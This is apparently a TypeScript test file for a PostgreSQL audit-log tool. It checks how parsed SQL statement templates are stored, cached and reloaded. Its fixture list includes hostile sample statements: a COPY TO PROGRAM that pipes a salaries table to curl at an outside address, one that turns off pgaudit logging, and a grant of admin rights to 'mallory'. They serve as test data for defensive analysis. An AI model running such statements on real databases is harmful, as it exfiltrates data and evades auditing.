/** The promise: what the parser says is stored once per template, and the next start knows it. */
import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import type { Statement } from '../../src/model/statement.ts';
import { loadParser } from '../../src/statements/parser/parser.ts';
import { StatementCache } from '../../src/statements/statement-cache.ts';
import { recentTemplates } from '../../src/store/statements.ts';
import { StoreWriter } from '../../src/store/writer.ts';
import { parsedStatement } from '../statements/support.ts';
import { audit, logRecord, message, temporaryStore } from './support.ts';

before(loadParser);

const TEXTS = [
  'SELECT a FROM t WHERE b = 1',
  'SELECT a FROM t WHERE b = 2',
  "SET pgaudit.log = 'none'",
  "COPY hr.salaries TO PROGRAM 'curl -d @- http://203.0.113.9/'",
  'GRANT azure_pg_admin TO mallory WITH ADMIN OPTION',
  'SELEC 1',
  "UPDATE pg_settings SET setting = 'off' WHERE name = 'log_connections'",
  "SET ROLE a; SELECT set_config('role', $1, true); RESET ALL",
];

/** One message with an audited statement for each text. */
const saying = (sequenceNumber: number, statements: readonly Statement[]) =>
  message(sequenceNumber, {
    records: statements.map(({ sqlText }, index) =>
      logRecord(audit({ statement: sqlText, statementId: 100 * sequenceNumber + index }), { index }),
    ),
    features: statements.map((statement, index) => [index, statement]),
  });

test('texts of one template share its row; texts and features come back as they were', async (t) => {
  const store = await temporaryStore(t);
  const writer = await StoreWriter.create(store);
  const statements = TEXTS.map(parsedStatement);
  await writer.commit([saying(1, statements)]);
  await writer.commit([
    saying(2, statements.slice(1, 3)),
    saying(3, [parsedStatement('SELECT a FROM t WHERE b = 3')]),
  ]);
  const [count] = await store.rows(
    'SELECT (SELECT count(*) FROM store.statements) AS texts, (SELECT count(*) FROM store.templates) AS templates',
  );
  assert.deepEqual({ ...count }, { texts: BigInt(TEXTS.length + 1), templates: BigInt(TEXTS.length - 1) });
  const rows = await store.rows('SELECT * FROM statements');
  for (const { statementHash, sqlText, template } of statements) {
    const row = rows.find(({ statement_hash }) => statement_hash === statementHash);
    assert.equal(row?.sql_text, sqlText);
    for (const [name, value] of Object.entries(template.features))
      assert.deepEqual(row?.[name.replace(/[A-Z]/g, (letter) => `_${letter.toLowerCase()}`)], value, name);
  }
});

test('the next start knows the templates in use: nothing that was parsed is parsed again', async (t) => {
  const store = await temporaryStore(t);
  const statements = TEXTS.map(parsedStatement);
  await (await StoreWriter.create(store)).commit([saying(1, statements)]);
  const cache = new StatementCache();
  for (const { sqlText, template } of await recentTemplates(store)) cache.file(sqlText, template);
  for (const [index, text] of TEXTS.entries()) assert.deepEqual(cache.find(text), statements[index], text);
  assert.ok(cache.find('SELECT a FROM t WHERE b = 4711'));
  assert.equal(cache.find("SET pgaudit.log = 'all'"), undefined);
});

test('what another version found is not taken over', async (t) => {
  const store = await temporaryStore(t);
  await (await StoreWriter.create(store)).commit([saying(1, TEXTS.map(parsedStatement))]);
  assert.equal((await recentTemplates(store)).length, TEXTS.length - 1);
  await store.transaction((transaction) => transaction.run("UPDATE store.templates SET version = '0.0.1'"));
  assert.deepEqual(await recentTemplates(store), []);
});

test('each activity has its own text and template: known, known before a restart, come twice in one commit', async (t) => {
  const store = await temporaryStore(t);
  const statements = TEXTS.map(parsedStatement);
  const first = await StoreWriter.create(store);
  await first.commit([saying(1, statements.slice(0, 3))]);
  await first.commit([
    saying(2, [statements[1]!, statements[0]!, parsedStatement('SELECT a FROM t WHERE b = 9')]),
  ]);
  const second = await StoreWriter.create(store);
  await second.commit([
    saying(3, [...statements, ...statements, parsedStatement('SELECT a FROM t WHERE b = 10')]),
  ]);
  const rows = await store.rows<{ id: bigint; sql_text: string; normalized: string; statement_hash: string }>(
    'SELECT statement_id AS id, sql_text, normalized, statement_hash FROM activity ORDER BY id',
  );
  const said = [
    ...TEXTS.slice(0, 3),
    ...[TEXTS[1]!, TEXTS[0]!, 'SELECT a FROM t WHERE b = 9'],
    ...[...TEXTS, ...TEXTS, 'SELECT a FROM t WHERE b = 10'],
  ];
  assert.deepEqual(
    rows.map(({ sql_text, normalized, statement_hash }) => [sql_text, normalized, statement_hash]),
    said.map((text) => {
      const { statementHash, template } = parsedStatement(text);
      return [text, template.features.normalized, statementHash];
    }),
  );
});
